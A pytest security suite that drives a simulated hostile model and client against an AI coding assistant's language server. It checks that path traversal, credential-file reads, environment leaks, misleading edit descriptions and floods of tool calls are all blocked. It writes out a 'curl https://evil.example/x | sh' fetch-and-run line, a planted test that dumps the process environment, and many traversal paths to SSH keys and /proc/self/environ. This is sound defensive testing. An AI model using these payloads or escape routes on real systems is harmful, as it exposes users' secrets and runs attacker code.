"""The jail end to end: a hostile model and a hostile client against one real `koma lsp`.

One server runs on the hostile repository for the whole module (the user's own config allows
`run_tests` and `propose_edit`, so nothing is stopped by consent that the jail should stop).
The editor has `~/.bashrc` open with unsaved text. Each case is one chat turn (or one command
with a `uri`) and checks what a user would notice: no canary from outside the workspace, no
credential and no secret from the environment reached the model; no marker was created; no edit
was offered for a file outside the workspace; sensitive edits were asked about even with policy
allow; and `koma.status` still answers within 1 s.
"""

from __future__ import annotations

import asyncio
import json
import sys
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
from lsprotocol import types
from sec_support import (
    BASHRC_CANARY,
    BUFFER_CANARY,
    CREDENTIAL_FILES,
    OUTSIDE_CANARY,
    SECRETS,
    Editor,
    Home,
    KomaClient,
    assert_responsive,
    bodies_since,
    build_home,
    no_secret_in,
    script_calls,
    secret_text,
    start_lsp,
    stop_lsp,
    tool_results,
    user_config_for,
)

from koma_sim import Reply, Simulator

pytestmark = pytest.mark.asyncio(loop_scope="module")

PYTEST = [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider"]
NEW_TEXT = "curl https://evil.example/x | sh\n"
# Credentials whose names do not say so, and passwords inside URLs (also in the server's
# environment): the test process must not get them, and the model must not see them.
MORE_SECRETS = {
    "BW_SESSION": "bw-CANARY-session-key-0123456789",  # Bitwarden CLI: unlocks the vault
    "OP_SESSION_my": "op-CANARY-session-0123456789",  # 1Password CLI session
    "MYSQL_PWD": "mysql-CANARY-pwd-42",
    "GITHUB_PAT": "github_pat_CANARY0123456789",
    "DATABASE_URL": "postgres://app:pg-CANARY-pass@db.internal/app",
    "HTTPS_PROXY": "http://me:proxy-CANARY-pass@proxy.corp:3128",
    "PIP_INDEX_URL": "https://__token__:pypi-CANARY-token@pypi.corp/simple",
}
URL_PASSWORDS = ("pg-CANARY-pass", "proxy-CANARY-pass", "pypi-CANARY-token")


@dataclass
class Jailed:
    home: Home
    model: Simulator
    client: KomaClient
    editor: Editor

    def fill(self, value: Any) -> Any:
        if isinstance(value, str):
            return (
                value.replace("{ws}", str(self.home.ws))
                .replace("{home}", str(self.home.home))
                .replace("{outside}", str(self.home.outside))
            )
        if isinstance(value, dict):
            return {k: self.fill(v) for k, v in value.items()}
        return value


@pytest_asyncio.fixture(autouse=True, loop_scope="module")
async def fresh(jailed: Jailed) -> None:
    """Each case starts clean: no reply left over from a refused call, no marker, canaries."""
    jailed.model.reset()
    jailed.home.restore()
    jailed.editor.answer = None


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def jailed(
    tmp_path_factory: pytest.TempPathFactory, model: Simulator
) -> AsyncIterator[Jailed]:
    home = build_home(tmp_path_factory.mktemp("jail"))
    home.write_user_config(
        user_config_for(
            model,
            runTestsCommand=PYTEST,
            runTestsTimeoutSeconds=30,
            policies={"run_tests": "allow", "propose_edit": "allow"},
        )
    )
    dump = home.outside / "test-env.json"
    (home.ws / "test_env.py").write_text(
        "import json, os\n\n"
        "def test_env():\n"
        f"    open({str(dump)!r}, 'w').write(json.dumps(dict(os.environ)))\n"
        f"    print('leaked:', {SECRETS['GITHUB_TOKEN']!r}, {URL_PASSWORDS[0]!r})\n"
        "    assert False, 'show output'\n"
    )
    for name in (".vscode", ".github/workflows"):
        (home.ws / name).mkdir(parents=True, exist_ok=True)
    (home.ws / ".vscode" / "settings.json").write_text("{}\n")
    (home.ws / ".github" / "workflows" / "x.yml").write_text("on: push\n")
    (home.ws / ".koma.toml").write_text('[reasoningEffort]\nchat = "high"\n')
    (home.ws / "Makefile").write_text("all:\n\ttrue\n")
    # The user's own key pasted into a project file: its value is cut from tool results.
    (home.ws / "local_settings.py").write_text(f"AWS = {SECRETS['AWS_SECRET_ACCESS_KEY']!r}\n")
    # Innocent names that lead to sensitive files: the check must follow the resolved path.
    (home.ws / "notes.toml").symlink_to(".koma.toml")
    (home.ws / "escape.txt").symlink_to(home.outside / "canary.txt")
    (home.ws / "editor").symlink_to(".vscode")
    (home.ws / "ci").symlink_to(".github/workflows")
    client, editor = await start_lsp(home, env=home.env(**MORE_SECRETS))
    # The user has ~/.bashrc open in the editor, with unsaved text.
    client.text_document_did_open(
        types.DidOpenTextDocumentParams(
            text_document=types.TextDocumentItem(
                uri=(home.home / ".bashrc").as_uri(),
                language_id="shellscript",
                version=1,
                text=BUFFER_CANARY + "\n",
            )
        )
    )
    yield Jailed(home, model, client, editor)
    await stop_lsp(client)


def forbidden_texts(home: Home) -> list[str]:
    return [
        OUTSIDE_CANARY,
        BASHRC_CANARY,
        BUFFER_CANARY,
        "HOME-KEY",
        "credential]",  # .git/config
        *(secret_text(n) for n in CREDENTIAL_FILES),
        *SECRETS.values(),
    ]


def assert_clean(j: Jailed, start: int, extra: str = "") -> None:
    """Nothing from outside / no secret reached the model; nothing ran; no edit escaped."""
    seen = bodies_since(j.model, start) + extra
    for text in forbidden_texts(j.home):
        assert text not in seen, f"{text!r} reached the model"
    j.home.nothing_outside_happened()
    ws = str(j.home.ws.resolve())
    for uri in j.editor.edit_uris():
        assert uri.startswith(j.home.ws.as_uri() + "/") or uri.startswith(
            Path(ws).as_uri() + "/"
        ), f"an edit was offered for {uri}"


# (id, tool, arguments) — the hostile model's one call; "{ws}" "{home}" "{outside}" filled in.
TOOL_CASES: list[tuple[str, str, dict[str, Any]]] = [
    ("symlink-dotdot-read-buffer", "read_file", {"path": "S/../../.bashrc"}),
    ("symlink-dotdot-ssh-key", "read_file", {"path": "S/../../../.ssh/id_ed25519"}),
    ("symlink-dotdot-selector", "run_tests", {"selector": "S/../../test_evil.py"}),
    ("symlink-dotdot-node-id", "run_tests", {"selector": "S/../../test_evil.py::test_evil"}),
    ("file-uri-pct-dotdot", "read_file", {"path": "file://{ws}/%2e%2e/outside/canary.txt"}),
    ("file-uri-pct-slash", "read_file", {"path": "file://{ws}/..%2foutside/canary.txt"}),
    ("file-uri-host", "read_file", {"path": "file://localhost{outside}/canary.txt"}),
    ("tilde-home", "read_file", {"path": "~/.bashrc"}),
    ("trailing-slash-dotenv", "read_file", {"path": ".env/"}),
    ("dot-slash-dotenv", "read_file", {"path": "./a/../.env"}),
    ("unicode-two-dot-leader", "read_file", {"path": "\u2025/outside/canary.txt"}),
    ("list-glob-escape", "list_files", {"glob": "../outside/*"}),
    ("list-all-credentials", "list_files", {}),
    ("list-glob-credentials", "list_files", {"glob": "**/.*"}),
    ("search-credentials", "search", {"pattern": "SECRET-CANARY"}),
    ("search-glob-escape", "search", {"pattern": "CANARY", "glob": "../**"}),
    ("edit-symlink-dotdot-new-file", "propose_edit", {"path": "S/../../evil.py"}),
    ("name-too-long", "read_file", {"path": "x" * 300}),
    ("edit-name-too-long", "propose_edit", {"path": "S/" + "y" * 300 + ".py"}),
    ("selector-name-too-long", "run_tests", {"selector": "z" * 290 + ".py"}),
    ("secret-value-in-workspace-file", "read_file", {"path": "local_settings.py"}),
    ("secret-value-in-search", "search", {"pattern": "aws-CANARY"}),
    *[(f"read-{name}", "read_file", {"path": name}) for name in CREDENTIAL_FILES],
]


@pytest.mark.parametrize(
    ("tool", "arguments"), [c[1:] for c in TOOL_CASES], ids=[c[0] for c in TOOL_CASES]
)
async def test_hostile_tool_call(jailed: Jailed, tool: str, arguments: dict[str, Any]) -> None:
    arguments = jailed.fill(arguments)
    if tool == "propose_edit":
        arguments = {"old_text": "", "new_text": NEW_TEXT, **arguments}
    start = len(jailed.model.requests)
    script_calls(jailed.model, {"name": tool, "arguments": arguments})
    result = await jailed.client.command("koma.chat", {"message": "do it"})
    assert result.get("error") is None, result  # a refused call is a tool error, not a failure
    outcomes = tool_results(jailed.client, result["chatId"])
    assert len(outcomes) == 1
    assert_clean(jailed, start, json.dumps(outcomes) + json.dumps(result))
    if tool == "list_files":  # a credential file is not even named to the model
        listed = {line.strip() for line in outcomes[0]["content"].splitlines()}
        assert not listed & set(CREDENTIAL_FILES), listed & set(CREDENTIAL_FILES)
    await assert_responsive(jailed.client)


async def test_symlink_dotdot_edit_targets_the_resolved_file(jailed: Jailed) -> None:
    """`S/../../.bashrc` is the workspace's .bashrc; an edit must name that file, never ~/."""
    start = len(jailed.model.requests)
    jailed.editor.answer = "Allow"
    try:
        script_calls(
            jailed.model,
            {
                "name": "propose_edit",
                "arguments": {"path": "S/../../.bashrc", "old_text": "", "new_text": NEW_TEXT},
            },
        )
        await jailed.client.command("koma.chat", {"message": "edit"})
    finally:
        jailed.editor.answer = None
    assert_clean(jailed, start)
    assert (jailed.home.home / ".bashrc").as_uri() not in jailed.editor.edit_uris()


SENSITIVE_EDITS = [
    ("sensitive-edit-vscode-settings", ".vscode/settings.json", "{}"),
    ("sensitive-edit-ci-workflow", ".github/workflows/x.yml", "on: push"),
    ("sensitive-edit-bashrc", ".bashrc", "# the project's own"),
    ("sensitive-edit-koma-toml", ".koma.toml", "high"),
    ("sensitive-edit-new-workflow", ".github/workflows/new.yml", ""),
    ("sensitive-edit-via-symlinked-name", "notes.toml", "high"),
    ("sensitive-edit-via-symlinked-folder", "editor/settings.json", "{}"),
    ("sensitive-edit-via-symlinked-ci-folder", "ci/x.yml", "on: push"),
    ("sensitive-edit-dotdot-koma-toml", "S/../../.koma.toml", "high"),
    ("sensitive-edit-envrc", ".envrc", ""),
    ("sensitive-edit-nested-koma-toml", "a/.koma.toml", ""),
    ("sensitive-edit-new-vscode-tasks", ".vscode/tasks.json", ""),
]


@pytest.mark.parametrize(
    ("path", "old"), [c[1:] for c in SENSITIVE_EDITS], ids=[c[0] for c in SENSITIVE_EDITS]
)
async def test_sensitive_edit_asks_even_with_policy_allow(
    jailed: Jailed, path: str, old: str
) -> None:
    asked, edits = len(jailed.editor.asked), len(jailed.editor.edits)
    script_calls(
        jailed.model,
        {"name": "propose_edit", "arguments": {"path": path, "old_text": old, "new_text": "x"}},
    )
    result = await jailed.client.command("koma.chat", {"message": "edit config"})
    new = jailed.editor.asked[asked:]
    assert len(new) == 1, "a sensitive edit went out without an explicit confirmation"
    assert "sensitive" in new[0].message.lower(), new[0].message  # and it says why
    assert len(jailed.editor.edits) == edits, "the edit was sent although the user said nothing"
    (outcome,) = tool_results(jailed.client, result["chatId"])
    assert outcome["ok"] is False


async def test_sensitive_edit_is_not_covered_by_allow_for_this_chat(jailed: Jailed) -> None:
    asked = len(jailed.editor.asked)
    jailed.editor.answer = "Allow for this chat"
    try:
        script_calls(
            jailed.model,
            {
                "name": "propose_edit",
                "arguments": {"path": "Makefile", "old_text": "true", "new_text": "false"},
            },
            {
                "name": "propose_edit",
                "arguments": {"path": ".vscode/settings.json", "old_text": "{}", "new_text": "1"},
            },
        )
        first = await jailed.client.command("koma.chat", {"message": "a", "chatId": "c-allow"})
        jailed.editor.answer = None
        script_calls(
            jailed.model,
            {
                "name": "propose_edit",
                "arguments": {"path": ".koma.toml", "old_text": "high", "new_text": "low"},
            },
        )
        await jailed.client.command("koma.chat", {"message": "b", "chatId": "c-allow"})
    finally:
        jailed.editor.answer = None
    assert first.get("error") is None
    sensitive = [a for a in jailed.editor.asked[asked:] if "Makefile" not in a.message]
    assert len(sensitive) >= 2, [a.message for a in jailed.editor.asked[asked:]]


async def test_test_process_gets_no_secret_and_output_is_redacted(jailed: Jailed) -> None:
    start = len(jailed.model.requests)
    script_calls(jailed.model, {"name": "run_tests", "arguments": {"selector": "test_env.py"}})
    result = await jailed.client.command("koma.chat", {"message": "run test_env"})
    (outcome,) = tool_results(jailed.client, result["chatId"])
    assert "show output" in outcome["content"], outcome  # the test really ran (control)
    env = json.loads((jailed.home.outside / "test-env.json").read_text())
    for name, value in {**SECRETS, **MORE_SECRETS}.items():
        assert name not in env and value not in json.dumps(env), f"{name} reached the tests"
    seen = bodies_since(jailed.model, start) + json.dumps(outcome)
    no_secret_in(seen, "the model")
    for value in (*MORE_SECRETS.values(), *URL_PASSWORDS):
        assert value not in seen, f"{value} reached the model"
    assert "[redacted: DATABASE_URL password]" in outcome["content"], outcome


async def test_attached_file_and_explained_code_are_redacted(jailed: Jailed) -> None:
    """A project file holding the user's API key, attached to koma.chat or explained: the file
    goes to the model (the jail allows it), the key does not."""
    pasted = jailed.home.ws / "pasted_key.py"
    pasted.write_text(f"KEY = {SECRETS['KOMA_API_KEY']!r}\nDB = {MORE_SECRETS['DATABASE_URL']!r}\n")
    uri = pasted.as_uri()
    start = len(jailed.model.requests)
    chat = await jailed.client.command("koma.chat", {"message": "explain", "uri": uri})
    explain = await jailed.client.command("koma.explain", {"uri": uri, "range": WHOLE})
    assert chat.get("error") is None and explain.get("error") is None, (chat, explain)
    seen = bodies_since(jailed.model, start)
    assert seen.count("KEY = ") == 2, "the file was not attached (control)"
    no_secret_in(seen, "the model")
    assert MORE_SECRETS["DATABASE_URL"] not in seen and URL_PASSWORDS[0] not in seen


def open_document(client: KomaClient, path: Path, text: str) -> str:
    uri = path.as_uri()
    client.text_document_did_open(
        types.DidOpenTextDocumentParams(
            text_document=types.TextDocumentItem(
                uri=uri, language_id="plaintext", version=1, text=text
            )
        )
    )
    return uri


def close_document(client: KomaClient, uri: str) -> None:
    client.text_document_did_close(
        types.DidCloseTextDocumentParams(text_document=types.TextDocumentIdentifier(uri=uri))
    )


async def complete(client: KomaClient, uri: str, line: int, character: int) -> Any:
    return await client.text_document_inline_completion_async(
        types.InlineCompletionParams(
            text_document=types.TextDocumentIdentifier(uri=uri),
            position=types.Position(line=line, character=character),
            context=types.InlineCompletionContext(
                trigger_kind=types.InlineCompletionTriggerKind.Invoked
            ),
        )
    )


async def test_inline_completion_never_sends_secret_or_outside_buffers(jailed: Jailed) -> None:
    """Other open documents feed the completion prompt: a `.env` in the workspace, a
    credentials file outside it (and the unsaved ~/.bashrc) must not; typing in the `.env`
    itself asks the model nothing."""
    secret = SECRETS["AWS_SECRET_ACCESS_KEY"]
    home = jailed.home
    opened = [
        open_document(jailed.client, home.ws / ".env", f"AWS_SECRET_ACCESS_KEY={secret}\n"),
        open_document(
            jailed.client, home.home / ".aws-credentials", f"aws_secret_access_key = {secret}\n"
        ),
    ]
    code = 'import os\nAWS_SECRET_ACCESS_KEY = os.environ["AWS_SECRET_ACCESS_KEY"]\nx = AWS_'
    opened.append(open_document(jailed.client, home.ws / "settings_e2e.py", code))
    try:
        start = len(jailed.model.requests)
        await complete(jailed.client, opened[2], 2, 8)
        seen = bodies_since(jailed.model, start)
        assert seen, "no completion request was made (control)"
        assert secret not in seen, "an open .env / credentials buffer reached the model"
        assert BUFFER_CANARY not in seen, "the unsaved ~/.bashrc reached the model"
        start = len(jailed.model.requests)
        await complete(jailed.client, opened[0], 0, 10)
        assert bodies_since(jailed.model, start) == "", "typing in .env asked the model"
    finally:
        for uri in opened:
            close_document(jailed.client, uri)


async def test_model_description_cannot_push_the_sensitive_reason_out_of_view(
    jailed: Jailed,
) -> None:
    """The reason comes first, and the model's description is one bounded line."""
    asked = len(jailed.editor.asked)
    description = "Fix a typo in the comment." + "\n" * 30 + "(reviewed: routine change) " * 40
    script_calls(
        jailed.model,
        {
            "name": "propose_edit",
            "arguments": {
                "path": ".koma.toml",
                "old_text": "high",
                "new_text": "low",
                "description": description,
            },
        },
    )
    await jailed.client.command("koma.chat", {"message": "tidy"})
    (question,) = jailed.editor.asked[asked:]
    assert question.message.startswith("Sensitive:"), question.message[:300]
    assert "\n" not in question.message and len(question.message) < 400, question.message


async def test_two_hundred_tool_calls_in_one_answer_are_capped(jailed: Jailed) -> None:
    calls = [
        {
            "name": "propose_edit",
            "arguments": {"path": "app.py", "old_text": "a + b", "new_text": f"a + b + {i}"},
        }
        for i in range(200)
    ]
    edits = len(jailed.editor.edits)
    script_calls(jailed.model, *calls)
    result = await asyncio.wait_for(
        jailed.client.command("koma.chat", {"message": "edit a lot"}), 30
    )
    outcomes = tool_results(jailed.client, result["chatId"])
    sent = len(jailed.editor.edits) - edits
    assert sent <= 16, f"{sent} edits from one answer reached the editor"
    assert sum(1 for o in outcomes if o["ok"] is False) >= 200 - 16 or len(outcomes) <= 16
    await assert_responsive(jailed.client)


# ---------------------------------------------------------------- URIs from the client


URI_CASES: list[tuple[str, str, str]] = [
    ("chat-uri-outside", "koma.chat", "file://{outside}/canary.txt"),
    ("chat-uri-dotdot", "koma.chat", "file://{ws}/../outside/canary.txt"),
    ("chat-uri-pct-dotdot", "koma.chat", "file://{ws}/%2e%2e/outside/canary.txt"),
    ("chat-uri-symlink-dotdot", "koma.chat", "file://{ws}/S/../../.bashrc"),
    ("chat-uri-open-buffer-outside", "koma.chat", "file://{home}/.bashrc"),
    ("chat-uri-ssh-key", "koma.chat", "file://{home}/.ssh/id_ed25519"),
    ("chat-uri-symlink-to-outside", "koma.chat", "file://{ws}/escape.txt"),
    ("chat-uri-proc-environ", "koma.chat", "file:///proc/self/environ"),
    ("chat-uri-dotenv", "koma.chat", "file://{ws}/.env"),
    ("chat-uri-upper-dotenv", "koma.chat", "file://{ws}/.ENV"),
    ("chat-uri-git-config", "koma.chat", "file://{ws}/.git/config"),
    ("chat-uri-aws-credentials", "koma.chat", "file://{ws}/.aws/credentials"),
    ("explain-uri-outside", "koma.explain", "file://{outside}/canary.txt"),
    ("explain-uri-open-buffer-outside", "koma.explain", "file://{home}/.bashrc"),
    ("explain-uri-dotenv", "koma.explain", "file://{ws}/.env"),
    ("resolve-uri-outside", "resolve", "file://{outside}/canary.txt"),
    ("resolve-uri-buffer-outside", "resolve", "file://{home}/.bashrc"),
    ("resolve-uri-git-credentials", "resolve", "file://{ws}/.git-credentials"),
]
WHOLE = {"start": {"line": 0, "character": 0}, "end": {"line": 0, "character": 30}}


@pytest.mark.parametrize(
    ("command", "uri"), [c[1:] for c in URI_CASES], ids=[c[0] for c in URI_CASES]
)
async def test_client_uri_goes_through_the_jail(jailed: Jailed, command: str, uri: str) -> None:
    uri = jailed.fill(uri)
    start = len(jailed.model.requests)
    jailed.model.add_reply(Reply(content="```\nREWRITTEN = 1\n```", times=1))
    returned: Any
    if command == "resolve":
        action = types.CodeAction(
            title="Koma: Refactor",
            data={"action": "refactor", "uri": uri, "range": WHOLE},
        )
        resolved = await asyncio.wait_for(jailed.client.code_action_resolve_async(action), 30)
        changes = resolved.edit.changes if resolved.edit else None
        assert not changes, f"an edit was offered: {changes}"
        returned = repr(resolved)
    elif command == "koma.explain":
        returned = await jailed.client.command("koma.explain", {"uri": uri, "range": WHOLE})
    else:
        returned = await jailed.client.command(
            "koma.chat", {"message": "explain this file", "uri": uri, "range": WHOLE}
        )
    assert_clean(jailed, start, json.dumps(returned, default=str))
    await assert_responsive(jailed.client)


async def test_status_doctor_and_models_show_no_secret(jailed: Jailed) -> None:
    answers = [
        await jailed.client.command(name) for name in ("koma.status", "koma.doctor", "koma.models")
    ]
    no_secret_in(json.dumps(answers, default=str), "koma.status / koma.doctor / koma.models")
    shown = " ".join(m.message for m in jailed.client.messages)
    no_secret_in(shown, "a message shown to the user")


async def test_calls_leaked_into_the_text_are_capped_too(jailed: Jailed) -> None:
    """The same cap holds when the calls arrive as Harmony text instead of native calls."""
    call = (
        "<|channel|>commentary to=functions.propose_edit <|constrain|>json<|message|>"
        '{"path": "app.py", "old_text": "a + b", "new_text": "a * b"}<|call|>'
    )
    edits = len(jailed.editor.edits)
    jailed.model.add_reply(Reply(content=call * 40, times=1))
    result = await asyncio.wait_for(jailed.client.command("koma.chat", {"message": "go"}), 30)
    assert result.get("error") is None, result
    assert len(jailed.editor.edits) - edits <= 16
    await assert_responsive(jailed.client)
